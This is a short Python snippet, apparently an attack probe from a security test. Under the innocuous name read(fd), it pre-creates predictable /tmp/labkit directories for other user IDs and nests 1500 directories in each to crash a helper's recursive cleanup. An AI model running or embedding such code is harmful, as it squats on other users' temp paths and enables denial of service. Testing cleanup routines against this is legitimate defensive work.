# tries: to have the helper process clean up a tree that is deeper than Python's stack
def read(fd):
    for number in range(2, 200):
        for user in (1000, 1001):
            start = f"/tmp/labkit-{user}-{number}"
            try:
                os.mkdir(start, 0o700)
                os.chdir(start)
                for _ in range(1500):
                    os.mkdir("d")
                    os.chdir("d")
            except OSError:
                continue
    return b""
